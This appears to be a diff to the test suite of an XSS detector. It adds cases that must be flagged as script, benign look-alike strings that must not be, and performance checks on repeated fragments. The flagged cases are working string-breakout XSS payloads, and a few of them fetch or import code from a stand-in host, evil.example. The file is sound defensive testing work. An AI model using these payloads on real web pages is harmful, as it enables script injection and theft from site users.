@@ -43,6 +43,25 @@ test.each([
   '<?import x>',
   '<!ENTITY x "y">',
   '<% ` %>',
+  // Out of a text of the page's script.
+  "'-alert(1)-'",
+  '"-alert(1)-"',
+  '`-alert(1)-`',
+  "x';alert(1)//",
+  "\\';alert(1)//",
+  '"+confirm`1`+"',
+  "');alert(1);('",
+  "'}]);eval(name)<!--",
+  "'-self?.['alert']?.(1)-'",
+  "';location=name//",
+  "';onerror=alert;throw 1//",
+  "';if(1){fetch('//evil.example')}/*",
+  "'in new Image(1) in'",
+  "'-/x/.source.constructor.constructor('alert(1)')()-'",
+  `\${alert(1)}`,
+  `x \${top["al"+"ert"](1)} y`,
+  "'-import('//evil.example')-'",
+  '<a filter=alpha(x)>',
 ])('%j is script', (text) => {
   expect(xss(text)).toBe(true);
 });
@@ -60,6 +79,19 @@ test.each([
   'if (a <b && c=d) { }',
   "name='O'Brien' value=\"1\"",
   '<javascript:x',
+  // Quotes and calls in prose, code and markdown.
+  "it's - a (test) - isn't it",
+  "the users' - see man(1) - own",
+  "rock 'n' roll (live)",
+  `5' - 10" (wide)`,
+  "'a' + b('c') + 'd'",
+  "x=''; y('z')",
+  `{"a":"b(c)","d":'e'}`,
+  "a='&b=f(1)&c='",
+  '- `.option()` and `--flag`',
+  '["text"](https://shop.example/a(b))',
+  `\${name} and \${price.toFixed(2)}`,
+  'filter=price',
 ])('%j is none', (text) => {
   expect(xss(text)).toBe(false);
 });
@@ -105,4 +137,26 @@ test('any bytes have an answer, and the same one wherever they lie', () => {
     }),
     { numRuns: 3000 },
   );
+});
+
+test.each([
+  "'-(",
+  "'-a.",
+  '${',
+  '${/*',
+  '${(',
+  '${"',
+  "'/*",
+  '`-`',
+  "\\'",
+  "'-a`",
+  '"/',
+  "';if(",
+  "'\n",
+  '<a b=',
+  '<!--',
+])('two megabytes of %s are read once, not once for each of them', (unit) => {
+  const buf = Buffer.from(unit.repeat(2_000_000 / unit.length));
+  // Read to the end for each, they would take minutes.
+  expect(() => detectScript(buf, 0, buf.length)).not.toThrow();
 });
